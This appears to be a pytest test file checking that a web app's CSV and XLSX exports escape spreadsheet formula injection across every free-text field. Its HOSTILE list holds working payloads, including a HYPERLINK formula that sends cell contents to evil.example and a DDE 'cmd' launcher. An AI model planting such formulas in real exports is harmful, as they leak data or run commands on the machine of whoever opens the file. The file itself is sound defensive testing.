"""Formula injection: every text cell of every CSV and XLSX export is inert, whatever the
estate, building, key, borrower or finding text holds."""

from __future__ import annotations

import csv
import io

import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from webapp import exports
from webapp.extensions import db
from webapp.models import Building, Estate, Key, Sign, User
from webapp.models.sync import Finding, KeyEvent

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"點我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
]


def _poison(app, seed) -> None:
    """Put hostile text in every free-text field the exports show."""
    n = iter(range(10_000))

    def bad() -> str:
        i = next(n)
        return HOSTILE[i % len(HOSTILE)] + f" {i}"

    with app.app_context():
        for estate in db.session.scalars(sa.select(Estate)):
            estate.name = bad()
        for building in db.session.scalars(sa.select(Building)):
            building.name = bad()[:40]
        for key in db.session.scalars(sa.select(Key)):
            key.name = bad()
            key.holder_name = bad()
            key.equipment_room = bad() if key.equipment_room else None
        for sign in db.session.scalars(sa.select(Sign)):
            sign.location = bad()
            sign.description = bad()
        for finding in db.session.scalars(sa.select(Finding)):
            finding.note, finding.category, finding.location = bad(), bad()[:64], bad()
        db.session.execute(sa.update(KeyEvent).values(borrower_name=bad(), purpose=bad()))
        for user in db.session.scalars(sa.select(User)):
            user.display_name = bad()
        db.session.commit()


def _export_urls(app, seed) -> list[str]:
    from webapp.review import tables

    urls = []
    for fmt in ("csv", "xlsx"):
        urls += [f"/review/findings.{fmt}", f"/keys/register.{fmt}"]
        urls += [f"/review/tables/{t.slug}.{fmt}" for t in tables.TABLES.values()]
        for estate in seed.estate_ids:
            for kind in ("units", "keys", "signs"):
                urls.append(f"/registry/estates/{estate}/{kind}/export.{fmt}")
    return urls


def _cells(response) -> list[str]:
    if response.mimetype == "text/csv":
        text = response.get_data().decode("utf-8-sig")
        return [c for row in csv.reader(io.StringIO(text)) for c in row]
    book = load_workbook(io.BytesIO(response.get_data()))
    out = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    out.append(cell.value)
    return out


@pytest.mark.parametrize("username", ["supervisor", "admin"])
def test_no_export_holds_a_live_formula(app, client, auth, seed, username):
    """Was an estate named =HYPERLINK(...) a live formula in /review/findings.xlsx, and a
    borrower name starting with TAB raw in the registry's keys CSV?"""
    _poison(app, seed)
    auth.login(username)
    checked = hostile_seen = 0
    for url in _export_urls(app, seed):
        response = client.get(url)
        if response.status_code == 404:
            continue
        assert response.status_code == 200, url
        for text in _cells(response):
            assert not exports.needs_guard(text), (url, text)
            hostile_seen += text.startswith("'")
        checked += 1
    assert checked >= 10 and hostile_seen > 50


@pytest.mark.parametrize("text", HOSTILE)
def test_the_writer_guards_and_the_importer_restores(text):
    assert exports.needs_guard(text)
    guarded = exports.safe(text)
    assert not exports.needs_guard(guarded) and exports.restore(guarded) == text
    for plain in ("漏水", "3棟", "", "a=b", "'quoted", "１＝１"):
        assert exports.safe(plain) == plain and exports.restore(plain) == plain


@given(st.text(alphabet="'= +-@\t\nab漏", max_size=8))
def test_every_text_comes_back_from_an_export_as_it_was(text):
    """Does what the importer reads back equal what was exported, whatever the text, even one
    that starts with an apostrophe before a formula sign (``'=1`` came back as ``=1``)?"""
    guarded = exports.safe(text)
    assert not exports.needs_guard(guarded)
    assert exports.restore(guarded) == text
